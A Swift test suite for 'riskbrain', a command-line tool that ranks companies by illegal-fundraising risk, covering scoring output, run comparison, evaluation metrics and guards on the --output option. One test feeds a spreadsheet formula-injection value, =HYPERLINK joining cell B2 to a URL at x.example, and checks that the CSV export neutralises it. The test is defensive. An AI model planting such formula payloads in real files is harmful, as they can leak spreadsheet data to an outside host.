import Foundation
import GRDB
import Testing
import RiskDomain
import RiskStore
import RiskTestSupport

/// End-to-end tests of `riskbrain score`, `evaluate` and `model` on a small database.
@Suite("CLI: score, evaluate, model")
struct ScoringCommandTests {
    static func code(_ n: Int, region: String = "330106") -> String { TestCreditCode.make(n, region: region) }

    static let source = code(1), affiliate = code(2, region: "310115"), plain = code(3), twinA = code(4), twinB = code(5)
    static var modelPath: String { RepositoryPaths.packageRoot.appendingPathComponent("models/illegal-fundraising.yaml").path }

    /// A database file with a fundraiser, its Shanghai affiliate, a plain company and two
    /// companies of the same name; and a watch list naming them.
    func setUp() throws -> (TemporaryDirectory, String) {
        let directory = try TemporaryDirectory()
        let path = directory.url.appendingPathComponent("risk.sqlite").path
        let database = try RiskDatabase.open(path: path)
        try database.writer.write { db in
            try db.execute(sql: "INSERT INTO import_batch (id, started_at) VALUES (1, '2025-01-01T00:00:00Z')")
            func company(_ code: String, _ name: String, _ scope: String) throws {
                try db.execute(sql: """
                    INSERT INTO company (credit_code, name, region_code, status, established, scope, batch_id, src_file, src_line)
                    VALUES (?, ?, ?, 'active', '2015-01-01', ?, 1, 'companies.csv', 2)
                    """, arguments: [code, name, String(Array(code)[2..<8]), scope])
            }
            try company(Self.source, "杭州鑫盛财富管理有限公司", "财富管理")
            try company(Self.affiliate, "上海盛通贸易有限公司", "日用百货")
            try company(Self.plain, "杭州青山软件有限公司", "软件开发")
            try company(Self.twinA, "同名商贸有限公司", "百货")
            try company(Self.twinB, "同名商贸有限公司", "百货")
            try db.execute(sql: """
                INSERT INTO product (company, product, promised_yield, guaranteed, channel, investors, start, batch_id, src_file, src_line)
                VALUES (?, '鑫盛月月盈', 12, 1, 'offline_seminar', 350, '2024-01-01', 1, 'products.csv', 2)
                """, arguments: [Self.source])
            for (company, pct) in [(Self.source, 80.0), (Self.affiliate, 70.0)] {
                try db.execute(sql: """
                    INSERT INTO shareholding (company, holder_id, holder_name, holder_type, pct, batch_id, src_file, src_line)
                    VALUES (?, 'P1', '陈某', 'person', ?, 1, 'shareholdings.csv', 2)
                    """, arguments: [company, pct])
            }
        }
        try directory.write("watchlist.csv", """
            referral_no,credit_code,name,note
            R1,\(Self.source),,举报
            R2,,杭州青山软件有限公司,
            R3,,同名商贸有限公司,重名
            R4,,不存在的公司,
            """)
        try directory.write("labels.csv", """
            company,label,date,source
            \(Self.source),1,2024-12-01,立案
            \(Self.plain),0,2024-12-01,核查
            """)
        return (directory, path)
    }

    @Test func scoreJSONHasTheDocumentedShapeAndIsByteIdentical() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let arguments = ["score", "watchlist.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01", "--format", "json"]
        let first = try runRiskBrain(arguments, in: directory.path)
        #expect(first.status == 0, "\(first.stderr)")
        let second = try runRiskBrain(arguments, in: directory.path)
        #expect(first.stdout == second.stdout)
        let json = try #require(try JSONSerialization.jsonObject(with: Data(first.stdout.utf8)) as? [String: Any])
        let results = try #require(json["results"] as? [[String: Any]])
        #expect(results.map { $0["credit_code"] as? String } == [Self.source, Self.plain])
        #expect(results[0]["level"] as? String == "high")
        #expect((results[0]["input"] as? [String: String])?["referral_no"] == "R1")
        #expect((results[0]["dimensions"] as? [String: Double])?["illegal_finance"] == 100)
        let unmatched = try #require(json["unmatched"] as? [[String: Any]])
        #expect(unmatched.map { $0["reason"] as? String } == ["ambiguous", "not_found"])
        #expect((unmatched[0]["candidates"] as? [[String: String]])?.map { $0["credit_code"] } == [Self.twinA, Self.twinB])
        let linked = try #require(json["linked"] as? [[String: Any]])
        #expect(linked.map { $0["credit_code"] as? String } == [Self.affiliate])
        #expect(linked.first?["other_city"] as? Bool == true)
        #expect(linked.first?["via"] as? String == Self.source)
        let keys = first.stdout.components(separatedBy: "\n").prefix(4).joined(separator: "\n")
        #expect(keys.contains("\"model\": {") && keys.contains("\"id\": \"illegal-fundraising\""))
    }

    /// A missing list read `list.csv:0: cannot read the file`: no line 0, and not that the file
    /// is missing (found by review).
    @Test func aMissingListSaysSo() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let result = try runRiskBrain(["score", "missing.csv", "--db", db, "--model", Self.modelPath], in: directory.path)
        #expect(result.status == 1)
        #expect(result.stderr == "error: missing.csv: no such file\n")
        let folder = try runRiskBrain(["score", ".", "--db", db, "--model", Self.modelPath], in: directory.path)
        #expect(folder.stderr == "error: .: is a folder, not a CSV file\n")
    }

    @Test func scoreTableRanksAndShowsLinkedWarnings() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let result = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01"], in: directory.path)
        #expect(result.status == 0)
        let lines = result.stdout.components(separatedBy: "\n")
        #expect(lines[3].hasPrefix("1  \(Self.source)  杭州鑫盛财富管理有限公司  90     高危 high"))
        #expect(result.stdout.contains("line 4: 同名商贸有限公司 — ambiguous; candidates: \(Self.twinA) 同名商贸有限公司, \(Self.twinB) 同名商贸有限公司"))
        #expect(result.stdout.contains("\(Self.affiliate) 上海盛通贸易有限公司  region 310115 异地  score 77 高危  via \(Self.source)"))
        #expect(result.stdout.contains("chain: 陈某 —控股→ 杭州鑫盛财富管理有限公司；陈某 —控股→ 上海盛通贸易有限公司"))
    }

    /// The CSV lost every unmatched list row (and so its referral number), the linked
    /// warnings and the run's provenance; a list cell such as `=HYPERLINK(…)` went out as a
    /// live formula. Now: scored rows, then unmatched, then linked, each with `status`, and
    /// the model and data on every row; formula-like cells start with an apostrophe.
    @Test func scoreCSVKeepsEveryListRowAndTheProvenance() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        try directory.write("list2.csv", """
            referral_no,credit_code,name,note
            R1,\(Self.source),,"=HYPERLINK(""http://x.example/?""&B2,""详情"")"
            R2,,不存在的公司,
            R3,\(Self.source),,再次举报
            """)
        let result = try runRiskBrain(["score", "list2.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01", "--format", "csv"],
                                      in: directory.path)
        #expect(result.status == 0, "\(result.stderr)")
        let rows = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).map(String.init).dropLast()
        #expect(result.stdout.hasSuffix("\n") && rows.count == 5, "\(result.stdout)")
        #expect(rows[0] == "rank,credit_code,name,region_code,score,level,illegal_finance,business,compliance,network,disposition,disposition_rule,reasons,"
                + "input_referral_no,input_credit_code,input_name,input_note,status,line,detail,model_id,model_version,model_sha256,as_of,data_fingerprint")
        #expect(rows[1].hasPrefix("1,\(Self.source),杭州鑫盛财富管理有限公司,330106,90,high,"))
        #expect(rows[1].contains(",R1,\(Self.source),,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"详情\"\")\",scored,,,illegal-fundraising,"), "\(rows[1])")
        #expect(rows[2].hasPrefix(",,不存在的公司,,,,,,,,,,,R2,,不存在的公司,,not_found,3,,illegal-fundraising,"), "\(rows[2])")
        #expect(rows[3].hasPrefix(",\(Self.source),,,,,,,,,,,,R3,\(Self.source),,再次举报,duplicate,4,\"duplicate of line 2, scored there\",illegal-fundraising,"), "\(rows[3])")
        // A linked warning's row carries its dimensions and reasons, as a scored row does.
        #expect(rows[4].hasPrefix(",\(Self.affiliate),上海盛通贸易有限公司,310115,77,high,0,0,0,85.5,立即核查：提请地方金融管理部门现场检查，涉嫌犯罪的移送公安机关,,network_risk +85.5,,,,,linked,,via \(Self.source) (异地): 陈某 —控股→ 杭州鑫盛财富管理有限公司"), "\(rows[4])")
        #expect(rows.dropFirst().allSatisfy { $0.contains(",2025-01-01,") }, "\(result.stdout)")
    }

    /// `--limit -2` is the option's value, refused by its own check (exit 64), not read as
    /// a flag ("Missing value"); `bench report --runs` likewise.
    @Test func negativeNumbersAreRefusedByTheirOption() throws {
        let score = try runRiskBrain(["score", "--all", "--limit", "-2", "--db", "/nonexistent/riskbrain.sqlite"])
        #expect(score.status == 64)
        #expect(score.stderr.hasPrefix("Error: --limit must not be negative\n"), "\(score.stderr)")
        let bench = try runRiskBrain(["bench", "report", "--db", "/nonexistent/riskbrain.sqlite", "--list", "x.csv", "--runs", "-1"])
        #expect(bench.status == 64)
        #expect(bench.stderr.hasPrefix("Error: --runs must be at least 1\n"), "\(bench.stderr)")
        // --limit with a list (scored whole) was ignored without a word (found by review).
        let listed = try runRiskBrain(["score", "list.csv", "--limit", "5", "--db", "/nonexistent/riskbrain.sqlite"])
        #expect(listed.status == 64)
        #expect(listed.stderr.hasPrefix("Error: --limit applies to --all only (a watch list is scored and printed whole)\n"), "\(listed.stderr)")
        // Exactly two run ids: "1,x,2" is not the pair 1,2.
        let compare = try runRiskBrain(["score", "--compare", "1,x,2", "--db", "/nonexistent/riskbrain.sqlite"])
        #expect(compare.status == 64)
        #expect(compare.stderr.hasPrefix("Error: --compare takes two run ids, e.g. 1,2\n"), "\(compare.stderr)")
    }

    @Test func scoreAllStoresRunsAndCompares() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let all = try runRiskBrain(["score", "--all", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01", "--format", "csv", "--limit", "2"], in: directory.path)
        #expect(all.status == 0, "\(all.stderr)")
        #expect(all.stderr == "stored run 1: 5 companies scored\n")
        let rows = all.stdout.split(separator: "\n")
        #expect(rows.count == 3)
        #expect(rows[1].hasPrefix("1,\(Self.source),杭州鑫盛财富管理有限公司,330106,90,high"))
        #expect(rows[2].hasPrefix("2,\(Self.affiliate),上海盛通贸易有限公司,310115,77,high"))
        _ = try runRiskBrain(["score", "--all", "--db", db, "--model", Self.modelPath, "--as-of", "2030-01-01", "--limit", "0"], in: directory.path)
        let runs = try runRiskBrain(["score", "--runs", "--db", db], in: directory.path)
        #expect(runs.stdout.contains("2030-01-01"))
        let compare = try runRiskBrain(["score", "--compare", "1,2", "--db", db], in: directory.path)
        #expect(compare.status == 0)
        #expect(compare.stdout.hasPrefix("run 1 → run 2:"))
        // The runs differ in as-of date, not model or data: said so. --format is honoured
        // (it printed the table whatever was asked).
        #expect(compare.stdout.contains("note: different as-of dates: 2025-01-01 → 2030-01-01"), "\(compare.stdout)")
        #expect(!compare.stdout.contains("different models"))
        let compareJSON = try runRiskBrain(["score", "--compare", "1,2", "--db", db, "--format", "json"], in: directory.path)
        let pair = try #require(try JSONSerialization.jsonObject(with: Data(compareJSON.stdout.utf8)) as? [String: Any])
        #expect(pair["same_model"] as? Bool == true && pair["same_data"] as? Bool == true && pair["same_as_of"] as? Bool == false)
        #expect(((pair["from"] as? [String: Any])?["model"] as? [String: Any])?["sha256"] as? String
                == ((pair["to"] as? [String: Any])?["model"] as? [String: Any])?["sha256"] as? String)
        #expect(pair["changes"] is [[String: Any]])
        let runsJSON = try runRiskBrain(["score", "--runs", "--db", db, "--format", "json"], in: directory.path)
        let listed = try #require(try JSONSerialization.jsonObject(with: Data(runsJSON.stdout.utf8)) as? [String: Any])
        #expect((listed["runs"] as? [[String: Any]])?.map { $0["as_of"] as? String } == ["2025-01-01", "2030-01-01"])
        let runsCSV = try runRiskBrain(["score", "--runs", "--db", db, "--format", "csv"], in: directory.path)
        #expect(runsCSV.stdout.hasPrefix("run,created_at,model_id,model_version,model_sha256,as_of,data_fingerprint,companies,high,medium,low\n1,"))
        let missing = try runRiskBrain(["score", "--compare", "1,9", "--db", db], in: directory.path)
        #expect(missing.status == 1)
        #expect(missing.stderr == "error: no stored run 9 (see `riskbrain score --runs`)\n")
    }

    @Test func usageAndRuntimeErrors() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        #expect(try runRiskBrain(["score", "--db", db], in: directory.path).status == 64)
        #expect(try runRiskBrain(["score", "watchlist.csv", "--all", "--db", db], in: directory.path).status == 64)
        #expect(try runRiskBrain(["score", "watchlist.csv", "--as-of", "2025-13-01", "--db", db], in: directory.path).status == 64)
        let bad = try directory.write("bad.yaml", "id: x\nversion: 1\n")
        let result = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--model", bad], in: directory.path)
        #expect(result.status == 1)
        #expect(result.stderr == "error: \(bad):1:1: model: missing field `description`\n")
        // An --output that cannot be written is an error, not a silently missing result (a
        // missing folder is made, as `report` makes it; a file in the way of the folder is not).
        let missing = directory.url.appendingPathComponent("watchlist.csv/out.csv").path
        let unwritten = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-06-30",
                                          "--format", "csv", "--output", missing], in: directory.path)
        #expect(unwritten.status == 1)
        #expect(unwritten.stderr.hasPrefix("error: cannot write \(missing)"))
        #expect(!FileManager.default.fileExists(atPath: missing))
    }

    /// `--output` truncated its target in place whatever it was: naming the database left it
    /// "malformed", naming the list replaced the bureau's referral list (found by review).
    /// Inputs and SQLite databases are refused before anything is written; other files are
    /// replaced through a temporary file; a missing folder is made; a folder is refused.
    @Test func outputNeverOverwritesAnInput() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let list = try String(contentsOf: directory.url.appendingPathComponent("watchlist.csv"), encoding: .utf8)
        let common = ["--db", db, "--model", Self.modelPath, "--as-of", "2025-06-30"]
        for (target, message) in [(db, "error: --output \(db) is an input of this command (\(db)); choose another file"),
                                  ("./watchlist.csv", "error: --output ./watchlist.csv is an input of this command (watchlist.csv); choose another file"),
                                  (db + ".graph", "error: --output \(db).graph is an input of this command (\(db).graph); choose another file")] {
            for command in ["score", "report"] {
                let result = try runRiskBrain([command, "watchlist.csv"] + common + ["--output", target], in: directory.path)
                #expect(result.status == 1 && result.stderr.hasSuffix(message + "\n"), "\(command) \(target): \(result.stderr)")
            }
        }
        #expect(try runRiskBrain(["status", "--db", db], in: directory.path).status == 0)
        #expect(try String(contentsOf: directory.url.appendingPathComponent("watchlist.csv"), encoding: .utf8) == list)
        let other = directory.url.appendingPathComponent("other.sqlite").path
        try FileManager.default.copyItem(atPath: db, toPath: other)
        let database = try runRiskBrain(["report", "watchlist.csv"] + common + ["--output", other], in: directory.path)
        #expect(database.status == 1 && database.stderr.hasSuffix("error: --output \(other) is an SQLite database; refusing to overwrite it (choose another file)\n"))
        let folder = try runRiskBrain(["score", "watchlist.csv"] + common + ["--output", "."], in: directory.path)
        #expect(folder.status == 1 && folder.stderr == "error: cannot write .: it is a folder (give a file name)\n")
        let made = try runRiskBrain(["score", "watchlist.csv"] + common + ["--format", "csv", "--output", "new/out.csv"], in: directory.path)
        #expect(made.status == 0)
        #expect(try String(contentsOf: directory.url.appendingPathComponent("new/out.csv"), encoding: .utf8).hasPrefix("rank,credit_code,"))
    }

    /// Found by review of the guard above: a model found through $RISKBRAIN_MODEL and its word
    /// files were not inputs; a -wal path through a symlinked folder got past the check; the
    /// write through a temporary file made a symlink a plain file and an owner-only file
    /// world-readable.
    @Test func outputGuardCoversTheResolvedModelSymlinksAndKeepsPermissions() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let models = directory.url.appendingPathComponent("m")
        try FileManager.default.copyItem(at: RepositoryPaths.packageRoot.appendingPathComponent("models"), to: models)
        let model = models.appendingPathComponent("illegal-fundraising.yaml").path
        let environment = ["RISKBRAIN_MODEL": model]
        let viaEnvironment = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--as-of", "2025-06-30", "--output", model],
                                              in: directory.path, environment: environment)
        #expect(viaEnvironment.status == 1 && viaEnvironment.stderr.contains("is an input of this command"), "\(viaEnvironment.stderr)")
        let words = models.appendingPathComponent("lexicons/jiang2020_negative.txt").path
        let word = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--as-of", "2025-06-30", "--output", words],
                                    in: directory.path, environment: environment)
        #expect(word.status == 1 && word.stderr.contains("is an input of this command"), "\(word.stderr)")
        try FileManager.default.createSymbolicLink(atPath: directory.url.appendingPathComponent("link").path, withDestinationPath: directory.url.path)
        let wal = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--as-of", "2025-06-30", "--output", "link/risk.sqlite-wal"],
                                   in: directory.path, environment: environment)
        #expect(wal.status == 1 && wal.stderr.contains("is an input of this command"), "\(wal.stderr)")
        let target = try directory.write("owner-only.csv", "x")
        #expect(chmod(target, 0o600) == 0)
        try FileManager.default.createSymbolicLink(atPath: directory.url.appendingPathComponent("latest.csv").path, withDestinationPath: target)
        let linked = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--as-of", "2025-06-30", "--format", "csv", "--output", "latest.csv"],
                                      in: directory.path, environment: environment)
        #expect(linked.status == 0, "\(linked.stderr)")
        let attributes = try FileManager.default.attributesOfItem(atPath: directory.url.appendingPathComponent("latest.csv").path)
        #expect(attributes[.type] as? FileAttributeType == .typeSymbolicLink)
        #expect((try FileManager.default.attributesOfItem(atPath: target)[.posixPermissions] as? Int) == 0o600)
        #expect(try String(contentsOfFile: target, encoding: .utf8).hasPrefix("rank,credit_code,"))
    }

    /// An as-of date after today scored every window lapsed without a word (9999-12-31 made a
    /// ring's 90 高危 a 9.5 正常; found by review): a warning on stderr, the run goes on.
    @Test func anAsOfDateAfterTodayIsWarnedAbout() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let later = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--model", Self.modelPath, "--as-of", "9999-12-31"], in: directory.path)
        #expect(later.status == 0)
        let today = ScoreCommandClock.todayISO()
        #expect(later.stderr.contains("warning: --as-of 9999-12-31 is after today (\(today)): no record is dated after today yet"), "\(later.stderr)")
        let past = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-06-30"], in: directory.path)
        #expect(past.status == 0 && !past.stderr.contains("warning: --as-of"))
    }

    /// `--model ""` quietly meant the default model (found by review): an error naming it.
    @Test func anEmptyModelNameIsAnError() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let result = try runRiskBrain(["score", "watchlist.csv", "--db", db, "--model", "", "--as-of", "2025-06-30"], in: directory.path)
        #expect(result.status == 1 && result.stderr == "error: the model file name is empty: pass --model FILE\n", "\(result.stderr)")
    }

    @Test func evaluateReportsCutsAucAndLift() throws {
        let (directory, db) = try setUp()
        defer { directory.remove() }
        let result = try runRiskBrain(["evaluate", "--labels", "labels.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01", "--format", "json"], in: directory.path)
        #expect(result.status == 0, "\(result.stderr)")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect(json["roc_auc"] as? Double == 1)
        let cuts = try #require(json["cuts"] as? [[String: Any]])
        #expect(cuts.first?["precision"] as? Double == 1 && cuts.first?["recall"] as? Double == 1)
        #expect((cuts.first?["confusion"] as? [String: Int]) == ["tp": 1, "fp": 0, "fn": 0, "tn": 1])
        let table = try runRiskBrain(["evaluate", "--labels", "labels.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01"], in: directory.path)
        #expect(table.stdout.contains("ROC AUC: 1.000"))
        // The boolean forms import accepts for labels (是/否, true/false) read the same.
        try directory.write("labels-words.csv", """
            company,label,date,source
            \(Self.source),是,2024-12-01,立案
            \(Self.plain),false,2024-12-01,核查
            """)
        let words = try runRiskBrain(["evaluate", "--labels", "labels-words.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01", "--format", "json"], in: directory.path)
        #expect(words.status == 0, "\(words.stderr)")
        let wordsJSON = try #require(try JSONSerialization.jsonObject(with: Data(words.stdout.utf8)) as? [String: Any])
        #expect(wordsJSON["roc_auc"] as? Double == 1)
        #expect(((wordsJSON["cuts"] as? [[String: Any]])?.first?["confusion"] as? [String: Int]) == ["tp": 1, "fp": 0, "fn": 0, "tn": 1])
        try directory.write("labels-bad.csv", "company,label\n\(Self.source),maybe\n")
        let bad = try runRiskBrain(["evaluate", "--labels", "labels-bad.csv", "--db", db, "--model", Self.modelPath, "--as-of", "2025-01-01"], in: directory.path)
        #expect(bad.status == 1)
        #expect(bad.stderr.contains("labels-bad.csv:2: label must be 0 or 1 (or true/false, yes/no, 是/否), not `maybe`"), "\(bad.stderr)")
    }

    @Test func modelCheckShowAndFeatures() throws {
        let check = try runRiskBrain(["model", "check", Self.modelPath])
        #expect(check.status == 0)
        #expect(check.stdout.hasPrefix("ok: illegal-fundraising 1.5.1, 26 indicators, sha256 "))
        let show = try runRiskBrain(["model", "show", Self.modelPath])
        #expect(show.stdout.contains("guaranteed_returns"))
        #expect(show.stdout.contains("high 高危 ≥ 70"))
        #expect(show.stdout.contains("public offering licences (no 200-investor or public-channel points; an unguaranteed yield is no promise): bank 银行, securities 证券, insurance 保险"))
        // Every number the features read, the benchmark yield first (review: not shown).
        #expect(show.stdout.contains("parameters: benchmark_yield 3.1 % (yield_excess is a product's promised yield minus it), young_company_years 2, hollow_capital_min 5000 万元, negative_sentiment -0.3"), "\(show.stdout)")
        #expect(show.stdout.contains("windows (days before the as-of date): litigation 1095, compliance 1095, news 365, change 365, product 1095"))
        #expect(show.stdout.contains("hub discount 0.3, equity full at 50 %"))
        let features = try runRiskBrain(["model", "features"])
        #expect(features.stdout.split(separator: "\n").count == 26)
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let text = try String(contentsOfFile: Self.modelPath, encoding: .utf8).replacingOccurrences(of: "feature: tax_arrears", with: "feature: taxes")
            .replacingOccurrences(of: "[lexicons/", with: "[\(RepositoryPaths.packageRoot.path)/models/lexicons/")
        let broken = try directory.write("broken.yaml", text)
        let line = (text.components(separatedBy: "\n").firstIndex { $0.contains("feature: taxes") } ?? 0) + 1
        let result = try runRiskBrain(["model", "check", broken])
        #expect(result.status == 1)
        #expect(result.stderr == "error: \(broken):\(line):14: indicator `tax_arrears`: unknown feature `taxes` (see `riskbrain model features`)\n")
    }

    /// `planted.csv` rows of the committed sample data: (scenario, role, credit_code, expected).
    static func planted() throws -> [(scenario: String, role: String, code: String, expected: String)] {
        let text = try String(contentsOf: RepositoryPaths.packageRoot.appendingPathComponent("sample-data/planted.csv"), encoding: .utf8)
        return text.split(separator: "\n").dropFirst().map { line in
            let cells = line.split(separator: ",", omittingEmptySubsequences: false).map(String.init)
            return (cells[1], cells[2], cells[3], cells[7])
        }
    }

    @Test func scoreWithDataImportsSampleDataFirstAndFindsTheRings() throws {
        let directory = try TemporaryDirectory()
        let root = RepositoryPaths.packageRoot
        let db = directory.url.appendingPathComponent("sample.sqlite").path
        let arguments = ["score", root.appendingPathComponent("sample-data/watchlist.csv").path, "--data", root.appendingPathComponent("sample-data").path,
                         "--db", db, "--model", Self.modelPath, "--as-of", "2026-06-30", "--format", "json"]
        let result = try runRiskBrain(arguments, in: directory.path)
        #expect(result.status == 0)
        #expect(result.stderr.contains("import batch #1 into \(db)"))   // the import summary goes to stderr
        let json = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect(json["as_of"] as? String == "2026-06-30")
        let results = try #require(json["results"] as? [[String: Any]])
        let level = Dictionary(uniqueKeysWithValues: results.map { ($0["credit_code"] as? String ?? "", $0["level"] as? String ?? "") })
        let planted = try Self.planted()
        let operating = planted.filter { $0.role.hasPrefix("operating") }
        #expect(operating.count == 8)
        for company in operating { #expect(level[company.code] == "high", "\(company.code) \(company.role)") }
        for company in planted where company.expected == "low" {
            if let listed = level[company.code] { #expect(listed == "low", "\(company.code) \(company.scenario) \(company.role)") }
        }
        // The out-of-city affiliates come out as linked warnings with their chains, 异地.
        let linked = try #require(json["linked"] as? [[String: Any]])
        let warned = Dictionary(uniqueKeysWithValues: linked.map { ($0["credit_code"] as? String ?? "", $0) })
        let affiliates = planted.filter { $0.role.hasPrefix("affiliate") }
        #expect(affiliates.count == 12)
        for affiliate in affiliates {
            let warning = try #require(warned[affiliate.code], "\(affiliate.code) \(affiliate.role) not warned")
            #expect(!((warning["chain"] as? [[String: Any]]) ?? []).isEmpty)
        }
        let region = Dictionary(uniqueKeysWithValues: results.map { ($0["credit_code"] as? String ?? "", $0["region_code"] as? String ?? "") })
        for warning in linked {
            let via = region[warning["via"] as? String ?? ""] ?? ""
            #expect((warning["other_city"] as? Bool) == ((warning["region_code"] as? String ?? "").prefix(4) != via.prefix(4)))
        }
        #expect(linked.filter { ($0["other_city"] as? Bool) == true }.count >= 8)
        for company in planted where company.expected == "low" { #expect(warned[company.code] == nil, "\(company.code) warned") }

        // A company already in a criminal fundraising case gets the model's specific
        // disposition, named by its rule; a high company without one keeps its level's.
        let criminal = results.filter { result in
            ((result["reasons"] as? [[String: Any]]) ?? []).contains { $0["indicator"] as? String == "criminal_fundraising_case" }
        }
        #expect(!criminal.isEmpty)
        for result in criminal {
            #expect(result["disposition_rule"] as? String == "criminal_fundraising_case")
            #expect((result["disposition"] as? String ?? "").hasPrefix("已涉非法集资刑事案件"))
        }
        let otherHigh = results.filter { $0["level"] as? String == "high" && $0["disposition_rule"] == nil }
        #expect(!otherHigh.isEmpty)
        for result in otherHigh { #expect((result["disposition"] as? String ?? "").hasPrefix("立即核查")) }

        // Scoring again with the imported database (no --data) is byte-identical.
        let again = try runRiskBrain(Array(arguments.prefix(2)) + Array(arguments.dropFirst(4)), in: directory.path)
        #expect(again.stdout == result.stdout)
    }
}

/// Today's date in UTC as the CLI reads it (ScoreCommand.today), for messages that name it.
enum ScoreCommandClock {
    static func todayISO() -> String {
        let formatter = DateFormatter()
        formatter.dateFormat = "yyyy-MM-dd"
        formatter.timeZone = TimeZone(identifier: "UTC")
        formatter.locale = Locale(identifier: "en_US_POSIX")
        return formatter.string(from: Date())
    }
}
